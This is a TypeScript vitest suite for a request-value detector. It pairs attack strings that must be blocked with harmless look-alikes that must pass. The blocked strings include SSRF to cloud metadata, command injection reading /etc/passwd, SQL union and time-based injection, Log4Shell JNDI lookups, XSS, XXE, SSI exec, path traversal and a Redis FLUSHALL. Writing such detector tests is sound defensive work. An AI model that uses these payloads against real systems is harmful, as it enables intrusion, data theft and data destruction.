import { describe, expect, test } from 'vitest';
import { detectors } from './detectors.ts';
import { createValueInspector, type ValueAt } from './testing/value.ts';

const inspect = createValueInspector(detectors);

type Case = string | readonly [string, ValueAt];

/** What scanners try first, each with honest values that resemble it. */
const habits: readonly (readonly [string, readonly Case[], readonly Case[]])[] = [
  [
    'a request written into a value',
    [
      'GET /a?u=http://169.254.169.254/latest/meta-data/ HTTP/1.1',
      'POST /run?cmd=;cat+/etc/passwd',
      'GET /read?url=file:///etc/passwd',
    ],
    ['GET /api/v1/order?id=3&page=2 HTTP/1.1', 'get /home?tab=mine', 'post /a?b=c 的返回是 404'],
  ],
  [
    'a quote where a number stands, or that ends a statement',
    [["12'", { name: 'id' }], ['7"', { name: 'orderno' }], "admin';"],
    [["5'", { name: 'height' }], ['27"', { name: 'size' }], ["O'Neil", { name: 'id' }], "it's;", "let a = 'x';"],
  ],
  [
    'addresses that are cut, or that a script is to include',
    [
      ['http://192.168.3.4:8080/a8f?', { name: 'progsdir' }],
      ['http://files.example.net/x', { name: 'root_path' }],
      ['http://files.example.net/x', { name: 'script_path' }],
    ],
    [
      ['https://files.example.net/a.jpg', { name: 'path' }],
      ['https://files.example.net/a.pdf', { name: 'file' }],
      ['http://192.168.3.4:8080/a8f', { name: 'url' }],
    ],
  ],
  [
    'streams, sessions and names of uploads',
    [
      'login.php::$DATA',
      ['sess_k3h2k1h4k5h6k7h8k9h0k1h2k3', { place: 'file', name: 'file' }],
      ['a.<>php', { place: 'file', name: 'file' }],
      ['photo. php', { place: 'file', name: 'file' }],
    ],
    ['std::data', ['sess_notes.docx', { place: 'file', name: 'file' }], ['会议纪要. pdf', { place: 'file', name: 'file' }]],
  ],
  [
    'Groovy, DedeCMS and functions by their names',
    [
      "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='t', root='http://t.example')",
      "{dede:field name='source' runphp='yes'}echo 3;{/dede:field}",
      "content['alert'](6)",
      '[7].findIndex(alert)',
    ],
    ['@grab a coffee', 'config["alert"] = true', "rows['alert']", '[7].findIndex(isOpen)'],
  ],
  [
    'numbers computed with letters, comments that lead to a union, broken spaces',
    ['456 + ASCII(substring(pin,1,1))-10', '-1#\n\nunion #', '1/1/**/union', '1\ufffdUNION\ufffdSELECT\ufffd2--'],
    ['456 + substring', '5 students in the union', '2026/08/12 union', '工会 union #1'],
  ],
  [
    'one call among signs, one command with arguments, one path of a document',
    ["id=k src= <img 6;avascript:alert('k')>", 'type 48213 + 48213', 'chmod 777 /data/a', "//user[contains(name,'a')]"],
    ["it's an alert (red); act now", 'npm install express', 'git clone https://git.example.com/a.git', '//user, see below'],
  ],
  [
    'letters of mathematics, and signs that are written in numbers',
    [
      "' \u{1d40e}\u{1d411} '\u{1d7cf}'='\u{1d7cf}",
      "' \u{1d414}\u{1d40d}\u{1d408}\u{1d40e}\u{1d40d} \u{1d412}\u{1d404}\u{1d40b}\u{1d404}\u{1d402}\u{1d413} 3,4--",
      '\\28uid=*\\29\\29(|(uid=*',
      "; $(printf '\\x63\\x61\\x74') /etc/hosts",
      "${${date:'j'}ndi:ldap://x.example/a}",
      '& set q=whoami&& %q%',
    ],
    ['\u{1d465}+\u{1d466}=1', '\u{1d453}(\u{1d465})=\u{1d465}²', 'C:\\28\\29', 'set x=1 && set y=2', '$(printf "%s" a)'],
  ],
  [
    'tags cut by comments, names in brackets, paths behind semicolons and at signs',
    [
      '<scr<!--k-->ipt>alert(4)</scr<!--k-->ipt>',
      '3; SELECT [pin] FROM [sys].[databases]--',
      '/public/..;jsessionid=k/etc/hosts',
      '/admin;/etc/passwd',
      'http://allowed.example.com/@127.0.0.1/',
      '//evil.example\\@good.example/a',
      '<!--#  exec  cmd="ls"  -->',
    ],
    ['见 <!-- 注释 --> 处', 'rows[index].name, from [a].b', '/@user/article', 'https://x.example/@zhang/3', '<!-- # 标题 -->'],
  ],
  [
    'errors and waits in arguments',
    [
      '3) ORDER BY 1 desc,extractvalue(rand(),concat(0x7c,md5(48213))) desc -- a',
      'if(now()=sysdate(),sleep(12),0)',
      'updatexml(1,concat(0x7e,user()),1)',
      ';sleep(9)',
    ],
    ['if(a) sleep(1) else run()', '睡眠(sleep)时间', 'extractValue 怎么用'],
  ],
  [
    'lookups one letter at a time, sources of entities, emptying a store',
    ['${${::-j}${::-n}${::-d}${::-i}://x.example}', 'SYSTEM "file:///etc/hosts"', 'FLUSHALL', '$\\c{1337*1337'],
    ['${::- 默认值}', 'the system "file server" is down', 'flush all caches'],
  ],
];

const asked = (value: Case): string => {
  const [text, at] = typeof value === 'string' ? [value, {}] : value;
  return inspect(text, at).action;
};

describe.each(habits)('%s', (_, attacks, honest) => {
  test.each(attacks.map((value) => [value]))('blocks %j', (value) => {
    expect(asked(value as Case)).toBe('block');
  });
  test.each(honest.map((value) => [value]))('passes %j', (value) => {
    expect(asked(value as Case)).toBe('pass');
  });
});
